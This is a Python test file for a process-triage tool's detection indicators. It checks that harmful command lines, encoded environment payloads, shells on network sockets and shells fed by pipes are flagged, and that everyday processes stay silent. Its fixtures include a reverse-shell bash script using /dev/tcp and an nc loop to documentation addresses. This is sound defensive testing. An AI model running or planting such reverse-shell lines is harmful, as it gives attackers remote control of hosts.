"""What the indicators say of command lines and environments, one process at a time."""

from __future__ import annotations

import base64
import binascii
import hashlib
import posixpath
import stat
import zlib
from collections.abc import Callable, Iterable

import pytest

from tests.command_lines import environments, lines
from triage.analyzers import indicators_for
from triage.model import (
    Argument,
    FileFacts,
    Host,
    Location,
    Mount,
    OpenFile,
    Process,
    Severity,
    Snapshot,
)
from triage.predicates.interpreters import script_paths
from triage.scene import build

_FOLDERS = ("command-line", "environment", "script", "loader")
_INDICATORS = [i for i in indicators_for({"Process"}) if i.id.startswith(_FOLDERS)]
_NULL = ((0, "/dev/null"), (1, "/dev/null"), (2, "/dev/null"))


def process(words: tuple[str, ...], **more: object) -> Process:
    """A process as the collector would see it; files in volatile places are taken to be there."""
    name = posixpath.basename(words[0]).lstrip("-")
    exe = words[0] if words[0].startswith("/") else f"/usr/bin/{name}"
    paths = script_paths(exe, words)
    arguments = tuple(Argument(i, t, posixpath.normpath(t), script=True) for i, t in paths)
    fields: dict[str, object] = {
        "location": Location("/proc/100"), "pid": 100, "ppid": 1, "kthread": False, "exe": exe,
        "cmdline": words, "environ": (), "cwd": "/", "root": "/", "arguments": arguments,
        "descriptors": _NULL,
    }  # fmt: skip
    return Process(**(fields | more))  # type: ignore[arg-type]


def found(subject: Process, *others: Process | Mount) -> dict[str, Severity]:
    """Indicators that fire on the process, with how bad they say it is."""
    scene = build(Snapshot("0", "live", "/", "", "", Host(), artifacts=(subject, *others)))
    return {
        indicator.id: evidence.severity or indicator.severity
        for indicator in _INDICATORS
        for evidence in indicator.check(subject, scene)
    }


def worst(severities: Iterable[Severity]) -> int:
    return max((severity.points for severity in severities), default=0)


def shortened(row: tuple[object, ...]) -> str:
    return " ".join(map(str, row))[:70]


@pytest.mark.parametrize("words", lines.HARMFUL, ids=shortened)
def test_a_harmful_command_line_is_at_least_medium(words: tuple[str, ...]) -> None:
    assert worst(found(process(words)).values()) >= Severity.MEDIUM.points


@pytest.mark.parametrize("words", lines.HARMLESS, ids=shortened)
def test_a_command_line_of_everyday_is_silent(words: tuple[str, ...]) -> None:
    assert found(process(words)) == {}


def with_environment(row: tuple[tuple[str, ...], dict[str, str]]) -> Process:
    words, variables = row
    return process(words, environ=tuple(f"{name}={value}" for name, value in variables.items()))


@pytest.mark.parametrize("row", environments.HARMFUL, ids=lambda row: str(row[1])[:70])
def test_a_harmful_environment_is_at_least_medium(
    row: tuple[tuple[str, ...], dict[str, str]],
) -> None:
    assert worst(found(with_environment(row)).values()) >= Severity.MEDIUM.points


@pytest.mark.parametrize("row", environments.HARMLESS, ids=lambda row: str(row[1])[:70])
def test_an_environment_of_everyday_is_silent(row: tuple[tuple[str, ...], dict[str, str]]) -> None:
    assert found(with_environment(row)) == {}


SCRIPT = (
    b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/443 0>&1\nwhile :; do nc 192.0.2.9 4444; done\n"
)
NOISE = hashlib.sha512(b"noise").digest()


@pytest.mark.parametrize(
    "spelled",
    [
        lambda data: "".join(f"\\{byte:03o}" for byte in data),
        lambda data: "".join(f"\\u{byte:04x}" for byte in data),
        lambda data: "".join(f"%{byte:02X}" for byte in data),
        lambda data: ", ".join(f"0x{byte:x}" for byte in data),
        lambda data: data.hex(":"),
        lambda data: base64.b85encode(data).decode(),
        lambda data: base64.b85encode(zlib.compress(data)).decode(),
        lambda data: base64.a85encode(zlib.compress(data)).decode(),
        lambda data: "".join(
            binascii.b2a_uu(data[at : at + 45]).decode() for at in range(0, len(data), 45)
        ),
    ],
)
def test_a_script_under_rarer_spellings_in_a_variable(spelled: Callable[[bytes], str]) -> None:
    harmful = process(("sleep", "9"), environ=(f"STATE={spelled(SCRIPT)}",))
    assert found(harmful)["environment-payload"].points >= Severity.HIGH.points
    noise = process(("sleep", "9"), environ=(f"STATE={spelled(NOISE)}",))
    assert worst(found(noise).values()) <= Severity.LOW.points


def test_a_fingerprint_in_a_variable_is_silent() -> None:
    assert found(process(("sleep", "9"), environ=(f"PIN={NOISE.hex(':').upper()}",))) == {}


def test_what_a_child_inherits_is_information() -> None:
    variables = ("X=bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",)
    parent = process(("bash",), environ=variables)
    child = process(("sleep", "9"), pid=101, location=Location("/proc/101"), ppid=100,
                    environ=variables)  # fmt: skip
    assert found(parent)["environment-command"] is Severity.HIGH
    assert found(child, parent)["environment-command"] is Severity.INFO


def test_a_mount_in_memory_anywhere_is_a_volatile_place() -> None:
    mount = Mount(
        Location("/proc/1/mountinfo", "line 1"), None, 30, 1, "0:40", "/", "/srv/cache",
        ("rw",), "tmpfs", "tmpfs", ("rw",),
    )  # fmt: skip
    subject = process(("bash", "x.sh"), environ=("BASH_ENV=/srv/cache/rc",))
    assert found(subject, mount) == {"environment-startup": Severity.HIGH}
    assert found(subject) == {}


@pytest.mark.parametrize(
    ("mode", "descriptor", "wanted"),
    [
        (stat.S_IFIFO | 0o600, None, {"script-fed": Severity.MEDIUM}),
        (stat.S_IFREG | 0o600, None, {}),
        (stat.S_IFIFO | 0o600, 63, {}),  # a shell's <(...)
    ],
)
def test_a_script_that_is_a_pipe_with_a_name(
    mode: int, descriptor: int | None, wanted: dict[str, Severity]
) -> None:
    file = FileFacts("8:1", 7, mode, 1, 0, 0, 0)
    taken = Argument(1, "/srv/queue", "/srv/queue", fd=descriptor, file=file, script=True)
    assert found(process(("bash", "/srv/queue"), arguments=(taken,))) == wanted


SHELL = process(("sh", "-i"), descriptors=((0, "socket:[7]"), (1, "socket:[7]")))


@pytest.mark.parametrize(
    ("protocol", "wanted"),
    [("TCP", Severity.CRITICAL), ("TCPv6", Severity.CRITICAL), ("UNIX-STREAM", None), (None, None)],
)
def test_a_shell_on_a_connection(protocol: str | None, wanted: Severity | None) -> None:
    held = (OpenFile(0, "socket:[7]", protocol=protocol, peer="192.0.2.7:4444"),)
    subject = process(("sh", "-i"), descriptors=SHELL.descriptors, open_files=held)
    assert found(subject).get("script-fed") is wanted


def on_pipe(words: tuple[str, ...], parent: str, writer: str | None = None) -> dict[str, Severity]:
    subject = process(words, descriptors=((0, "pipe:[7]"), (1, "/dev/null")), ppid=90)
    above = process((parent,), pid=90, location=Location("/proc/90"), exe=f"/usr/sbin/{parent}")
    if writer is None:
        return found(subject, above)
    other = process((writer,), pid=91, location=Location("/proc/91"),
                    descriptors=((1, "pipe:[7]"),), ppid=1)  # fmt: skip
    return found(subject, above, other)


def test_a_shell_that_a_pipe_feeds() -> None:
    assert on_pipe(("bash",), "bash", "curl") == {"script-fed": Severity.HIGH}
    assert on_pipe(("python3", "-"), "bash", "base64") == {"script-fed": Severity.HIGH}
    assert on_pipe(("sh",), "socat") == {"script-fed": Severity.HIGH}
    assert on_pipe(("sh", "-i"), "bash", "cat") == {"script-fed": Severity.MEDIUM}
    assert on_pipe(("bash",), "bash") == {"script-fed": Severity.LOW}
    assert on_pipe(("bash",), "bash", "cat") == {"script-fed": Severity.INFO}


@pytest.mark.parametrize("host", ["sshd", "containerd-shim-runc-v2", "gitlab-runner", "cron"])
def test_a_shell_that_a_host_feeds_is_silent(host: str) -> None:
    assert on_pipe(("bash",), host) == {}
    assert on_pipe(("sh", "-i"), host, "cat") == {}


@pytest.mark.parametrize(
    "words",
    [("python3", "-c", "import sys"), ("bash", "/etc/x.sh"), ("perl", "-ne", "print"),
     ("python3", "-m", "json.tool"), ("gawk", "{print}"), ("gunicorn: worker [app]",)],
)  # fmt: skip
def test_a_program_with_code_of_its_own_reads_data(words: tuple[str, ...]) -> None:
    subject = process(words, exe="/usr/bin/python3.11" if ":" in words[0] else f"/usr/bin/{words[0]}",
                      descriptors=((0, "pipe:[7]"),))  # fmt: skip
    assert "script-fed" not in found(subject)
